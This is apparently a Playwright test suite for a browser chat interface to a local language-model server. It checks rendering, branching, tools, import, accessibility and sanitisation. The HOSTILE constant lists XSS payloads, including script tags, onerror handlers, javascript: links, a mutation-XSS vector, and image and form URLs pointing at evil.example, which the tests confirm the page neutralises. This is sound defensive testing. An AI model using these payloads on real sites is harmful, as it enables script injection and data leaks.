"""The web page in a browser, in front of a server that does what a test says.

Each test ends with the same question: was there an error in the console, something that the page's policy
had to stop, or a request to another host?
"""

import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.browser import Tab, find_browser, launched
from tests.support.fake_chat import STATS, Event, Fake, call, finish, served, text

pytestmark = pytest.mark.skipif(
    find_browser() is None, reason="no browser: Chromium or Chrome must be on the path"
)
HELLO = [*text("Hello **there**."), finish()]
HOLD: Event = {"type": "hold"}
HOSTILE = """<script>window.pwned = 1</script>

<img src="http://evil.example/a.png" onerror="window.pwned = 2"> ![x](http://evil.example/b.png?secret)

<svg onload="window.pwned = 3"><a xlink:href="javascript:window.pwned=4"><text>t</text></a></svg>

[click](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) [here](/api/delete)

<a href="JaVaScRiPt:window.pwned=7">a</a> <iframe srcdoc="<script>parent.pwned=8</script>"></iframe>

<form action="http://evil.example"><input name=q><button>b</button></form> <style>* { display: none }</style>

<div id="log" class="composer-place" style="position:fixed" onclick="window.pwned=9">over</div>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=10&gt;">

$\\href{javascript:window.pwned=11}{x}$ $\\includegraphics{http://evil.example/c.png}$

![" onerror="window.pwned=12](http://evil.example/"onerror="window.pwned=13)

```"><img/src=x/onerror=window.pwned=14>
<img src=x onerror=window.pwned=15>
```

[fine](https://example.org/page)
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = find_browser()
    assert path is not None
    with launched(path) as browser:
        yield browser


@pytest.fixture
def fake() -> Fake:
    return Fake([HELLO])


@pytest.fixture(scope="module")
def place() -> Iterator[tuple[str, Callable[[Fake], None]]]:
    """One address for all fakes: (url, what makes a fake the one behind it)."""
    current: list[Any] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        await current[-1](scope, receive, send)

    with served(app) as url:
        yield url, lambda fake: current.append(fake.app())


@pytest.fixture(scope="module")
def context(browser: Any) -> Iterator[Any]:
    """One for all tests: what the browser has fetched once, it asks for again in a millisecond."""
    context = browser.new_context(viewport={"width": 1100, "height": 760})
    yield context
    context.close()


FORGET = """async () => {
    localStorage.clear();
    sessionStorage.clear();
    for (const { name } of await indexedDB.databases()) await new Promise((done) => {
        indexedDB.deleteDatabase(name).onsuccess = done;
    });
}"""


@pytest.fixture
def tab(context: Any, fake: Fake, place: tuple[str, Callable[[Fake], None]]) -> Iterator[Tab]:
    place[1](fake)
    with opened(context, place[0]) as tab:
        yield tab


@contextmanager
def opened(context: Any, url: str) -> Iterator[Tab]:
    """A tab; at its end nothing is left of what it kept."""
    tab = Tab(context.new_page(), url)
    try:
        yield tab.open()
        assert tab.noise == []
    finally:
        tab.page.evaluate(FORGET)
        for page in context.pages:
            page.close()


def test_an_answer_comes_with_its_form_and_its_numbers(tab: Tab, fake: Fake) -> None:
    words = "A **bold** word.\n\n```python\nprint(1)  # one\n```\n\n| a |\n|--|\n| 1 |\n\n"
    words += "H<sub>2</sub>O, $e^{i\\pi}$ and $5 or $6"
    thought = [{"type": "thinking", "text": one} for one in ("I ", "think")]
    fake.answers = [[*thought, *text(words, 3), finish(cut="num_predict", reason="length")]]
    answer = tab.ask("Hi")
    assert answer.locator("strong").inner_text() == "bold"
    answer.locator(".hljs-comment").wait_for()
    answer.locator(".katex").wait_for()
    assert answer.locator(".katex").count() == 1
    assert "$5 or $6" in answer.locator(".prose").last.inner_text()
    assert answer.locator("td").inner_text() == "1"
    assert answer.locator("sub").inner_text() == "2"
    assert re.match(r"Thought for \d", answer.locator(".thinking summary").inner_text())
    assert not answer.locator(".thinking .prose").is_visible()
    said = answer.locator(".stats").inner_text()
    for part in ("20.0 tok/s", "41 tokens", "prompt 512", "reused 480 of 512 tokens", "2.50 tokens a pass"):
        assert part in said
    assert "drafts 24 of 48 accepted" in said
    assert "num_predict reached" in said
    assert tab.page.locator("#context").get_attribute("aria-valuetext") == "553 of 2,048 tokens of context"
    assert tab.page.locator("#memory-text").inner_text() == "12.4 MB in memory"
    assert fake.asked == [
        {"model": "island:latest", "messages": [{"role": "user", "content": "Hi"}], "parameters": {}}
    ]


def test_only_the_last_block_is_drawn_anew(tab: Tab, fake: Fake) -> None:
    reading: Event = {"type": "progress", "read_tokens": 1024, "total_tokens": 4096}
    fake.answers = [
        [reading, HOLD, *text("First.\n\nSecond"), HOLD, *text(" goes on.\n\n- third"), HOLD, finish()]
    ]
    tab.say("Hi")
    tab.said("Reading the prompt… 1,024 of 4,096 tokens").wait_for()
    fake.let_go(1)
    tab.said("Second").wait_for()
    assert tab.page.locator(".message.assistant").get_attribute("aria-busy") == "true"
    first = tab.page.locator(".prose p").first.element_handle()
    fake.let_go(1)
    tab.page.locator(".prose li").wait_for()
    assert first.evaluate("e => e.isConnected")
    assert tab.page.locator(".prose").inner_text() == "First.\n\nSecond goes on.\n\nthird"
    fake.let_go(1)
    tab.answered()


def test_stop_continue_and_regenerate(tab: Tab, fake: Fake) -> None:
    fake.answers = [[*text("One two"), HOLD, finish()], [*text(" three"), finish()], HELLO]
    tab.say("Count")
    tab.said("One two").wait_for()
    tab.page.keyboard.press("Escape")
    answer = tab.answered()
    assert "stopped" in answer.locator(".stats").inner_text()
    fake.let_go(1)
    answer.get_by_role("button", name="Continue").click()
    tab.said("One two three").wait_for()
    assert fake.asked[1]["continue_final"] is True
    assert fake.asked[1]["messages"][-1] == {"role": "assistant", "content": "One two"}
    tab.answered().get_by_role("button", name="Regenerate").click()
    tab.said("Hello there.").wait_for()
    assert len(fake.asked[2]["messages"]) == 1
    assert tab.answered().locator(".branches").inner_text().startswith("2 of 2")
    assert fake.left == 1


def test_an_edit_makes_a_branch_that_says_what_was_reused(tab: Tab, fake: Fake) -> None:
    fake.answers = [HELLO, [*text("Second answer"), finish(stats={**STATS, "cached_tokens": 500})]]
    tab.ask("First question")
    asked = tab.page.locator(".message.user")
    asked.hover()
    asked.get_by_role("button", name="Edit").click()
    box = tab.page.get_by_label("Edit the message")
    assert box.input_value() == "First question"
    box.fill("Another question")
    box.press("Enter")
    tab.said("Second answer").wait_for()
    assert "reused 500 of 512 tokens" in asked.locator(".branches").inner_text()
    asked.get_by_role("button", name="Earlier version").click()
    tab.said("First question").wait_for()
    tab.said("Hello there.").wait_for()
    tab.open(f"/#{urlsplit(tab.page.url).fragment}")
    tab.page.reload()
    tab.page.get_by_text("First question").first.wait_for()
    asked.get_by_role("button", name="Later version").click()
    tab.said("Second answer").wait_for()


def test_conversations_are_kept_found_renamed_moved_and_deleted(tab: Tab, fake: Fake) -> None:
    page = tab.page
    fake.answers = [[*text("About <tigers> & ants"), finish()]]
    tab.ask("Animals?")
    tab.button("New conversation").click()
    fake.answers = [HELLO]
    tab.ask("Plants?")
    page.reload()
    page.wait_for_selector(":root[data-ready]")
    assert page.locator(".asked").inner_text() == "Plants?"
    page.keyboard.press("Control+k")
    page.keyboard.type("tigers")
    page.locator("#chats li").filter(has_text="Plants?").wait_for(state="detached")
    page.locator(".chat").click()
    page.locator("#search").fill("")
    tab.button("More about this conversation").click()
    tab.button("Rename").click()
    page.locator("#ask-text").fill("Beasts")
    page.keyboard.press("Enter")
    page.locator("#title").filter(has_text="Beasts").wait_for()
    tab.button("More about this conversation").click()
    with page.expect_download() as markdown:
        tab.button("Export as Markdown").click()
    written = markdown.value.path().read_text(encoding="utf-8")
    assert written.startswith("# Beasts\n\n## You\n\nAnimals?\n\n## island:latest\n\nAbout <tigers> & ants")
    with page.expect_download() as whole:
        tab.button("Export all").click()
    tab.button("More about this conversation").click()
    tab.button("Delete").click()
    page.locator("#ask-ok").click()
    page.locator("#chats li").filter(has_text="Beasts").wait_for(state="detached")
    page.locator("#import-file").set_input_files(whole.value.path())
    page.locator("#chats li").filter(has_text="Beasts").wait_for()
    page.locator("#chats li").nth(2).wait_for()  # Plants? once more
    page.locator("#import-file").set_input_files({"name": "x.json", "mimeType": "a/b", "buffer": b"{]"})
    page.get_by_text("x.json: it holds no JSON").wait_for()


def test_hostile_text_does_nothing(tab: Tab, fake: Fake) -> None:
    fake.answers = [[{"type": kind, "text": HOSTILE} for kind in ("thinking", "text")] + [finish()]]
    answer = tab.ask("Hi")
    answer.locator("summary").click()
    for prose in answer.locator(".prose").all():
        prose.get_by_text("fine").wait_for()
        prose.locator(".katex").first.wait_for()
        found = prose.evaluate(
            "e => [...e.querySelectorAll('*:not(.code-head *)')].map(one => one.localName)"
        )
        assert not set(found) & {
            "script",
            "img",
            "iframe",
            "form",
            "input",
            "style",
            "object",
            "svg",
            "button",
        }
        hrefs = prose.evaluate("e => [...e.querySelectorAll('[href]')].map(one => one.getAttribute('href'))")
        assert all(re.match("https?://(evil[.]example|example[.]org)/", one) for one in hrefs)
        assert "https://example.org/page" in hrefs
        ours = "[id], [onclick], [onload], [onerror], [src], [style*=fixed], .composer-place"
        assert prose.locator(ours).count() == 0
        assert "<script>window.pwned = 1</script>" in prose.inner_text()
    assert tab.page.evaluate("window.pwned") is None


def test_a_hostile_file_is_imported_as_text(tab: Tab) -> None:
    message = {"id": "a", "role": "assistant", "content": HOSTILE, "parent": "a", "tokens": [3], "calls": {}}
    ring = {"title": "<b onclick=x>", "messages": [message, 5, None], "chosen": [], "settings": 7}
    calls = [{"name": "<img src=x onerror=window.pwned=1>", "arguments": "<script>"}]
    said = {
        "id": "b",
        "role": "assistant",
        "content": HOSTILE,
        "calls": calls,
        "stats": {"prompt_tokens": "<b>"},
    }
    data = {
        "kind": "modelkit conversations",
        "conversations": [ring, {"messages": [said], "chosen": {"b": 1}}],
    }
    file = {"name": "x.json", "mimeType": "application/json", "buffer": json.dumps(data).encode()}
    tab.page.locator("#import-file").set_input_files(file)
    tab.page.get_by_text("2 imported").wait_for()
    tab.button("Imported conversation").click()
    tab.said("fine").wait_for()
    assert tab.page.locator(".call-name").inner_text() == calls[0]["name"]
    assert tab.page.evaluate("window.pwned") is None


def test_a_line_of_a_megabyte_is_shown_as_it_is(tab: Tab, fake: Fake) -> None:
    line = "*[`$<b>" * 150_000
    fake.answers = [[*text(line, 100_000), finish()]]
    answer = tab.ask("Hi")
    assert answer.locator(".plain").evaluate("e => e.textContent.length") == len(line)


def test_tools_are_cards_that_take_results(tab: Tab, fake: Fake) -> None:
    page = tab.page
    tools = '[{"name": "weather", "parameters": {"type": "object"}}, {"name": "time"}]'
    fake.answers = [[*call(0, "weather", {"city": "Paris"}), *call(1, "time", {}), finish()], HELLO]
    tab.button("Settings of this conversation").click()
    page.locator("#tools").fill('[{"name": "weather"')
    assert page.locator("#tools-note").inner_text().startswith("Line 1, column")
    page.locator("#tools").fill(tools)
    assert page.locator("#tools-note").inner_text() == "The model may call weather, time"
    page.locator("#tool-choice").select_option("weather")
    page.keyboard.press("Escape")
    tab.ask("Weather?")
    assert [one["function"]["name"] for one in fake.asked[0]["tools"]] == ["weather", "time"]
    assert fake.asked[0]["tool_choice"] == "weather"
    assert '"city": "Paris"' in page.get_by_label("Arguments of weather").inner_text()
    page.get_by_label("Result of weather").fill("Sunny")
    page.get_by_label("Call of time").get_by_label("error").check()
    tab.button("Send results").click()
    tab.said("Hello there.").wait_for()
    first, second = fake.asked[1]["messages"][-2:]
    assert first == {"role": "tool", "content": "Sunny", "tool_call_id": "call_0", "name": "weather"}
    assert second["content"].startswith("Error: ")
    assert fake.asked[1]["messages"][-3]["tool_calls"][0]["function"]["arguments"] == {"city": "Paris"}
    assert page.locator(".result.failed").count() == 1


def test_form_parameters_and_thinking_are_sent_once_they_are_sound(tab: Tab, fake: Fake) -> None:
    page = tab.page
    fake.answers = [[*text('{"a": 1}'), finish()], [*text('{"a": '), finish(cut="num_predict")]]
    tab.button("Settings of this conversation").click()
    assert page.get_by_label("Temperature").get_attribute("placeholder") == "0.7"
    assert page.get_by_label("Top k").get_attribute("placeholder") == "40"
    page.get_by_label("Temperature").fill("0.2")
    page.get_by_label("Stop texts").fill("END\n\nSTOP")
    page.get_by_label("System text").fill("Be brief.")
    for wrong, said in [
        ('{"type": "objekt"}', "schema.type"),
        ("[1]", "A schema is"),
        ('{"type": ', "Line 1"),
    ]:
        page.locator("#format").fill(wrong)
        assert page.locator("#format-note").inner_text().startswith(said)
        assert page.locator("#format").get_attribute("aria-invalid") == "true"
    page.keyboard.press("Escape")
    tab.ask("Hi")
    assert fake.asked == []
    tab.said("Schema: Line 1").wait_for()
    tab.button("Settings of this conversation").click()
    page.locator("#format").fill('{"type": "object", "properties": {"a": {"type": "integer"}}}')
    page.keyboard.press("Escape")
    page.locator("#think").select_option("high")
    tab.button("Try again").click()
    page.get_by_text("valid JSON").wait_for()
    sent = fake.asked[0]
    assert sent["parameters"] == {"temperature": 0.2, "stop": ["END", "STOP"]}
    assert sent["format"]["properties"] == {"a": {"type": "integer"}}
    assert sent["think"] == "high"
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}
    tab.ask("Again")
    page.get_by_text("no whole JSON").wait_for()


def test_tokens_show_how_sure_the_model_was(tab: Tab, fake: Fake) -> None:
    page = tab.page
    chances = [("Yes", -0.01), (" or", -0.4), (" no", -3.0)]
    top = [{"text": " maybe", "logprob": -0.5}]
    fake.answers = [
        [
            *(
                {"type": "text", "text": word, "tokens": [{"text": word, "logprob": value, "top": top}]}
                for word, value in chances
            ),
            finish(),
        ]
    ]
    tab.button("Settings of this conversation").click()
    page.get_by_label("Ask for the probabilities").check()
    page.keyboard.press("Escape")
    tab.ask("Sure?").get_by_role("button", name="Probabilities").click()
    assert fake.asked[0]["top_logprobs"] == 5
    tokens = page.locator(".tokens .token")
    assert [one.get_attribute("class") for one in tokens.all()] == [
        "token sure-0",
        "token sure-1",
        "token sure-4",
    ]
    page.locator(".tokens").focus()
    page.keyboard.press("End")
    assert "no 5.0 %" in page.locator(".token-detail").inner_text()
    assert "maybe 60.7 %" in page.locator(".token-detail").inner_text()


def test_models_are_loaded_and_unloaded(tab: Tab, fake: Fake) -> None:
    tab.button("Models").click()
    tab.button("Load a-model-with-a-rather-long-name:70b").click()
    tab.button("Unload a-model-with-a-rather-long-name:70b").wait_for()
    tab.button("Unload island:latest").click()
    tab.button("Load island:latest").wait_for()
    assert fake.loaded == {"a-model-with-a-rather-long-name:70b"}
    assert (
        "12.4 MB in memory · 2,048 tokens of context · drafts by island-draft"
        in tab.page.locator(".loaded").inner_text()
    )


def test_text_files_go_with_the_message(tab: Tab, fake: Fake) -> None:
    page = tab.page
    files = [
        {"name": "a.py", "mimeType": "text/x-python", "buffer": b"x = '''```'''"},
        {"name": "b.png", "mimeType": "image/png", "buffer": b"\x89PNG\x00\xff"},
    ]
    page.locator("#file").set_input_files(files)
    page.get_by_text("b.png: not a text in UTF-8").wait_for()
    drop = """() => { const data = new DataTransfer(); data.items.add(new File(["dropped"], "c.txt"));
        const how = { dataTransfer: data, bubbles: true, cancelable: true };
        document.body.dispatchEvent(new DragEvent("drop", how)) }"""
    page.evaluate(drop)
    paste = """() => { const data = new DataTransfer(); data.items.add(new File(["pasted"], "d.txt"));
        document.querySelector("#message").dispatchEvent(
            new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })) }"""
    page.evaluate(paste)
    page.locator("#files li").nth(2).wait_for()
    tab.button("Remove c.txt").click()
    tab.ask("Read")
    sent = fake.asked[0]["messages"][0]["content"]
    assert sent == "Read\n\na.py:\n````\nx = '''```'''\n````\n\nd.txt:\n```\npasted\n```"
    assert page.locator(".file summary").all_inner_texts() == ["a.py", "d.txt"]


def test_a_key_is_asked_for_once_and_kept_for_the_tab(tab: Tab, fake: Fake) -> None:
    page = tab.page
    fake.key = "open sesame"
    page.reload()
    page.get_by_label("API key").fill("wrong")
    tab.button("Go on").click()
    page.get_by_text("The server refused that key").wait_for()
    page.get_by_label("API key").fill(fake.key)
    page.keyboard.press("Enter")
    page.wait_for_selector(":root[data-ready]")
    tab.ask("Hi").get_by_text("there").wait_for()
    page.reload()
    page.wait_for_selector(":root[data-ready]")
    tab.ask("Again")
    assert page.evaluate("JSON.stringify(localStorage)").find(fake.key) < 0
    assert page.evaluate("document.cookie") == ""
    assert all("401" in said for said in tab.noise)
    tab.noise.clear()


def test_what_fails_is_said_and_can_be_tried_again(tab: Tab, fake: Fake) -> None:
    fake.pause_s = 0.02  # what is still on its way when a connection breaks is lost
    failures: list[tuple[list[Event], str]] = [
        ([*text("Half"), HOLD, {"error": {"message": "it broke"}}], "it broke"),
        ([*text("Half"), HOLD, {"type": "break"}], "broke off"),
        ([*text("Half"), HOLD], "broke off"),
    ]
    for place, (events, said) in enumerate(failures):
        fake.answers = [events, HELLO]
        tab.say("Hi")
        tab.page.locator("#send[aria-label=Stop]").wait_for()
        tab.said("Half").wait_for()
        fake.let_go(1)
        answer = tab.answered()
        assert said in answer.get_by_role("alert").inner_text()
        assert answer.locator(".prose").inner_text() == "Half"
        answer.get_by_role("button", name="Try again").click()
        tab.said("Hello there.").nth(place).wait_for()
        tab.answered()
    fake.status = 503
    answer = tab.ask("Hi")
    assert "all places are taken Try again in 7.0 s." in answer.get_by_role("alert").inner_text()
    tab.noise = [one for one in tab.noise if not re.search("503|ERR_INCOMPLETE_CHUNKED", one)]


def test_a_server_that_is_away_is_said_and_found_again(tab: Tab, fake: Fake) -> None:
    tab.ask("Hi")
    tab.page.context.set_offline(True)
    tab.ask("Are you there?").get_by_text("cannot be reached").wait_for()
    tab.page.context.set_offline(False)
    tab.button("Try again").click()
    tab.said("Hello there.").nth(1).wait_for()
    assert tab.page.locator(".branches").count() == 0
    tab.noise = [one for one in tab.noise if "ERR_INTERNET_DISCONNECTED" not in one]


def test_two_tabs_make_two_branches_and_lose_nothing(tab: Tab, fake: Fake) -> None:
    fake.answers = [HELLO]
    tab.ask("Start")
    other = Tab(tab.page.context.new_page(), tab.url).open("/" + "#" + urlsplit(tab.page.url).fragment)
    fake.answers = [[*text("In the other"), finish()]]
    other.ask("Other tab")
    tab.said("In the other").wait_for()
    fake.answers = [[*text("In the first"), finish()]]
    tab.ask("First tab")
    other.said("In the first").wait_for()
    assert [one["content"] for one in fake.asked[-1]["messages"]][::2] == ["Start", "Other tab", "First tab"]
    assert other.noise == []


def test_the_keyboard_is_enough(tab: Tab, fake: Fake) -> None:
    page = tab.page
    press = page.keyboard.press
    assert page.evaluate("document.activeElement.id") == "message"
    page.keyboard.type("One")
    press("Shift+Enter")
    page.keyboard.type("Two")
    press("Enter")
    tab.answered()
    assert fake.asked[0]["messages"][0]["content"] == "One\nTwo"
    assert page.evaluate("document.activeElement.id") == "message"
    names = []
    for _ in range(12):
        press("Shift+Tab")
        names.append(
            page.evaluate(
                "document.activeElement.getAttribute('aria-label') ?? document.activeElement.innerText"
            )
        )
        if names[-1] == "Regenerate":
            break
    assert names[-1] == "Regenerate", names
    press("Enter")
    page.get_by_text("2 of 2").wait_for()
    press("Control+k")
    assert page.evaluate("document.activeElement.id") == "search"
    press("Control+Shift+O")
    page.locator("#welcome").wait_for()
    press("Control+b")
    page.locator("#sidebar").wait_for(state="hidden")


def test_a_phone_has_the_list_over_the_page(tab: Tab, fake: Fake) -> None:
    code = "```\n" + "long line " * 40 + "\n```\n\n"
    fake.answers = [[*text(code + "| a | b | c |\n|-|-|-|\n" + "| wide cell | " * 9), finish()]]
    page = tab.page
    page.set_viewport_size({"width": 320, "height": 600})
    page.locator("#sidebar").wait_for(state="hidden")
    tab.ask("A rather long question without an end " * 4)
    for selector in ("html", "#scroll", "#log"):
        over = page.locator(selector).evaluate("e => e.scrollWidth - e.clientWidth")
        assert over <= 0, selector
    tab.button("Conversations").click()
    page.locator("#sidebar").wait_for()
    assert page.evaluate("document.querySelector('#main').inert")
    page.keyboard.press("Escape")
    page.locator("#sidebar").wait_for(state="hidden")


def test_an_audit_finds_nothing(tab: Tab, fake: Fake) -> None:
    from axe_playwright_python.sync_playwright import Axe

    page, axe = tab.page, Axe()
    words = (
        "# Head\n\n```python\nx = 'a'  # b\n```\n\n> said\n\n| a |\n|--|\n| [b](https://c.d) |\n\n$x^2$ `y`"
    )
    tokens = [{"text": "a", "logprob": value, "top": []} for value in (-0.01, -0.3, -0.8, -2, -5)]
    fake.answers = [
        [
            {"type": "thinking", "text": "hm"},
            *text(words),
            {"type": "text", "text": "", "tokens": tokens},
            finish(reason="length"),
        ],
        [*call(0, "weather", {"city": "Paris"}), {"error": "it broke"}],
    ]

    def audit(where: str, *variants: str) -> None:
        for variant in variants:
            page.set_viewport_size({"width": 320 if variant == "phone" else 1100, "height": 700})
            page.emulate_media(color_scheme="dark" if variant == "dark" else "light", reduced_motion="reduce")
            found = axe.run(page).response["violations"]
            said = [(one["id"], node["html"], node["any"][:1]) for one in found for node in one["nodes"]]
            assert not said, (where, variant, said)

    audit("welcome", "light")
    tab.ask("Hi").locator(".hljs-comment").wait_for()
    page.locator(".thinking summary").click()
    tab.ask("Call")
    audit("conversation", "dark", "phone", "light")
    page.locator(".message.assistant").first.get_by_role("button", name="Probabilities").click()
    audit("probabilities", "dark", "light")
    tab.button("Models").click()
    audit("models", "dark")
    page.keyboard.press("Escape")
    tab.button("Settings of this conversation").click()
    audit("settings", "dark", "phone")
    page.keyboard.press("Escape")
    tab.button("Conversations").click()
    audit("list", "phone")


def test_a_screen_reader_finds_its_way(tab: Tab) -> None:
    tab.ask("Hi")
    tree = tab.page.locator("body").aria_snapshot()
    for line in (
        '- complementary "Conversations"',
        '- button "New conversation"',
        '- navigation "Earlier conversations"',
        "- main:",
        '- heading "Hi" [level=1]',
        '- combobox "Model"',
        '- log "Messages"',
        '- article "You"',
        '- article "Answer of island:latest"',
        '- form "New message"',
        '- textbox "Message"',
        '- button "Send"',
    ):
        assert line in tree, tree
    assert tab.page.locator("#log").get_attribute("aria-live") == "off"
    assert tab.page.locator("#announcer").inner_text() == "Hello there."
